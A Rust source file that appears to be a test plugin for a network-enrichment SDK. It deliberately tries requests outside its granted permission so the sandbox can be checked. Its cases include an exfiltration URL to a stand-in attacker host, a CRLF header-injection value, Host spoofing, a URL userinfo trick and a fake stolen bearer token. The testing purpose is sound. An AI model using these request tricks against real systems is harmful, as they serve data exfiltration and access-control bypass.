//! An enricher that asks for what it was not granted, something else for each address, and answers with what the host said. Its
//! parameter is the server that it may ask.

use net_scout_sdk::http::{self, Header, Method};
use net_scout_sdk::{Arguments, Description, EnrichError, Observable, ObservableKind, Parameter, enricher};

enricher!(describe, enrich);

fn describe() -> Description {
    Description::enricher("http_prober", "1.0.0", "Asks for what it was not granted", &[ObservableKind::Ip])
        .parameter(Parameter::line("server", "", 200, "The server that it may ask"))
        .talks_to(&["GET"], "{=server}", None)
}

fn enrich(observable: Observable, arguments: &Arguments) -> Result<String, EnrichError> {
    let server = arguments.text("server")?;
    let get = |url: &str| http::send(Method::Get, url, &[], None);
    let with = |name: &str, value: &str| {
        let field = Header { name: name.to_owned(), value: value.to_owned() };
        http::send(Method::Get, &format!("{server}/good"), &[field], None)
    };
    let answer = match observable.value.as_str() {
        "1.0.0.1" => get("https://evil.example/exfiltrate?data=1"),
        "1.0.0.2" => http::send(Method::Post, server, &[], Some(b"data")),
        "1.0.0.3" => get(&server.replace("http:", "https:")),
        "1.0.0.4" => get("http://evil.example/"),
        "1.0.0.5" => get("ftp://evil.example/"),
        "1.0.0.6" => get(&format!("{server}@evil.example/")),
        "1.0.0.7" => get(&format!("{}/", server.replace("127.0.0.1", "127.0.0.2"))),
        "1.0.0.8" => with("Authorization", "Bearer stolen"),
        "1.0.0.9" => with("Host", "evil.example"),
        "1.0.0.10" => with("accept", "*/*\r\nHost: evil.example"),
        "1.0.0.11" => get(&format!("{server}/away")),
        "1.0.0.12" => get(&format!("{server}/{}", "a".repeat(5_000))),
        "1.0.0.13" => http::send(Method::Get, server, &[], Some(&vec![0; 2 << 20])),
        _ => with("x-client", "prober"),
    };
    let response = answer?;
    Ok(format!("{{\"status\": {}, \"length\": {}}}", response.status, response.body.len()))
}
